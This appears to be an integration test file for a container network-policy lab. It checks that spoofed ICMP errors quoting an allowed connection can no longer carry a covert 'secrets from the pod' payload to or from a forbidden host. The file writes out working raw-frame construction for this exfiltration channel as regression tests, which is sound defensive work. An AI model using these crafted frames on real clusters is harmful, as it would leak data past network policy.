/**
 * Attack (issue 9, finding 2): related ICMP errors were matched on their inner header only. An
 * ICMP error quoting the pod's live, allowed connection but addressed to a forbidden host was
 * delivered: a two-way covert channel with any payload. Now an error relates only when its outer
 * addresses are the connection's peers (and its type may relate); otherwise policy decides, and
 * the pod's policy forbids both directions. Checked by captures in the world namespace and in the
 * pod, with the peer's own errors as the positive control.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { ChildProcess } from 'node:child_process';
import { TestLab, REPO, type Flow } from '../support/lab.ts';
import { ACK, ETH_IP, ICMP, TCP, eth, icmpError, ipv4, tcp, ifaceMac, sendFrames, ensureRawpkt, capturedAt } from '../support/frames.ts';
import {
  API, FORBIDDEN, WORLD_IFACE, cnp, egressTo, ns, pod, podNet, send, tcpLocalPorts, worldGatewayMac, worldNetns, type PodNet,
} from '../support/attack.ts';

const lab = new TestLab(`aic${process.pid % 10000}`);
let atk: PodNet;

before(async () => {
  ensureRawpkt();
  await lab.up();
  await lab.apply([
    ns('aic'),
    pod('aic', 'attacker', { app: 'attacker' }),
    cnp('aic', 'attacker-openai-only', {
      endpointSelector: { matchLabels: { app: 'attacker' } },
      egress: [egressTo(`${API}/32`, [80])],
      ingress: [{}], // nothing may connect to the attacker: its connections' replies only
    }),
  ]);
  const ip = (await lab.podIPs())['aic/attacker'];
  assert.ok(ip);
  atk = podNet(lab, 'aic', 'attacker', ip);
});
after(async () => { await lab.down(); });

async function flows(args: string[], pred: (f: Flow) => boolean): Promise<Flow[]> {
  let fs: Flow[] = [];
  for (let i = 0; i < 20; i++) {
    fs = await lab.flows([...args, '--last', '2000']);
    if (fs.some(pred)) return fs;
    await new Promise((r) => setTimeout(r, 250));
  }
  return fs;
}

let hold: ChildProcess | undefined;
let out = '';
let P = 0;
const covert = Buffer.from('covert channel payload: secrets from the pod');

/** A live, allowed connection: keep-alive HTTP requests to api.openai.com every 200 ms. */
async function liveConnection(): Promise<void> {
  hold = lab.spawnIn('aic', 'attacker', ['env', 'HOLD_DURATION_MS=120000', join(REPO, 'bin/node'), join(REPO, 'test/integration/support/hold.ts'), API, '80']);
  hold.stdout!.on('data', (d: Buffer) => { out += d.toString(); });
  for (let i = 0; i < 50 && !/ok 3/.test(out); i++) await new Promise((r) => setTimeout(r, 200));
  assert.match(out, /ok 3/, `the live connection works: ${out}`);
  const ports = tcpLocalPorts(atk.netns, API, 80);
  assert.equal(ports.length, 1, `one live connection to ${API}:80`);
  P = ports[0]!;
}

async function stillLive(): Promise<void> {
  const n = (out.match(/ok \d+/g) ?? []).length;
  await new Promise((r) => setTimeout(r, 1000));
  assert.ok((out.match(/ok \d+/g) ?? []).length > n && !/fail/.test(out), `the live connection kept working: ${out.slice(-200)}`);
}

after(() => { hold?.kill('SIGKILL'); });

test('egress: an ICMP error quoting the pod\'s live connection does not reach a forbidden host; one to the peer does', async () => {
  await liveConnection();
  const since = new Date();
  const reply = ipv4({ src: API, dst: atk.ip, proto: TCP }, tcp({ src: API, dst: atk.ip, sport: 80, dport: P, flags: ACK }));
  const toForbidden = eth({ dst: atk.gw, src: atk.mac, type: ETH_IP }, ipv4({ src: atk.ip, dst: FORBIDDEN, proto: ICMP }, icmpError(reply, 3, 1, covert)));
  const toPeer = eth({ dst: atk.gw, src: atk.mac, type: ETH_IP }, ipv4({ src: atk.ip, dst: API, proto: ICMP }, icmpError(reply, 3, 1)));
  const atWorld = await capturedAt(worldNetns(lab), WORLD_IFACE, () => send(atk, [toForbidden, toPeer]));
  const icmpIn = atWorld.filter((f) => f.dir === 'in' && f.ip?.proto === ICMP && f.ip.src === atk.ip);
  assert.deepEqual(icmpIn.map((f) => f.ip!.dst), [API], 'only the error to the connection\'s peer left the lab');
  const eg = await flows(['--from-pod', 'aic/attacker', '--verdict', 'DROPPED', '--since', since.toISOString()], (f) => f.IP?.destination === FORBIDDEN);
  const e = eg.find((f) => f.IP?.destination === FORBIDDEN);
  assert.ok(e, `a DROPPED flow for the error to the forbidden host: ${JSON.stringify(eg.slice(-3))}`);
  assert.equal(e.drop_reason_desc, 'POLICY_DENIED');
  await stillLive();
});

test('ingress: an ICMP error from a forbidden host quoting the pod\'s live connection does not reach the pod; the peer\'s does', async () => {
  if (!P) await liveConnection();
  const since = new Date();
  const sent = ipv4({ src: atk.ip, dst: API, proto: TCP }, tcp({ src: atk.ip, dst: API, sport: P, dport: 80, flags: ACK }));
  const wmac = ifaceMac(worldNetns(lab), WORLD_IFACE);
  const gw = worldGatewayMac(lab);
  const fromForbidden = eth({ dst: gw, src: wmac, type: ETH_IP }, ipv4({ src: FORBIDDEN, dst: atk.ip, proto: ICMP }, icmpError(sent, 3, 1, covert)));
  const fromPeer = eth({ dst: gw, src: wmac, type: ETH_IP }, ipv4({ src: API, dst: atk.ip, proto: ICMP }, icmpError(sent, 3, 1)));
  const atPod = await capturedAt(atk.netns, 'eth0', () => sendFrames(worldNetns(lab), WORLD_IFACE, [fromForbidden, fromPeer]));
  const errs = atPod.filter((f) => f.dir === 'in' && f.ip?.proto === ICMP);
  assert.deepEqual(errs.map((f) => f.ip!.src), [API], 'only the peer\'s error reached the pod');
  const ing = await flows(['--to-pod', 'aic/attacker', '--verdict', 'DROPPED', '--since', since.toISOString()], (f) => f.IP?.source === FORBIDDEN);
  const i = ing.find((f) => f.IP?.source === FORBIDDEN);
  assert.ok(i, `a DROPPED flow for the forbidden host's error: ${JSON.stringify(ing.slice(-3))}`);
  assert.deepEqual([i.drop_reason_desc, i.traffic_direction], ['POLICY_DENIED', 'INGRESS']);
  await stillLive();
});
